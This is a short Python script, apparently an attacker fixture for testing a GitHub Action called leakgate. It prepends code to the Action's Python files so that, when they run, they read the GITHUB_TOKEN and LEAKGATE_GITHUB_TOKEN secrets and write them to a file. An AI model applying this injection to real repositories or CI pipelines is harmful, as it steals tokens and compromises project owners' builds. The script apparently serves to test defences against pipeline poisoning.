"""Edits what the Action is going to run, so that the step with the token would run code of this script."""

import glob
import os
import pathlib

STEALS = (
    "import os\n"
    "found = [os.environ.get(name, '') for name in ('LEAKGATE_GITHUB_TOKEN', 'GITHUB_TOKEN')]\n"
    f"open({os.environ['STOLEN']!r}, 'a').write(' '.join(found) + chr(10))\n"
)
for path in (*glob.glob("action/*.py"), *glob.glob("leakgate/report/*.py"), "leakgate/__init__.py"):
    pathlib.Path(path).write_text(STEALS + pathlib.Path(path).read_text())
raise SystemExit(5)
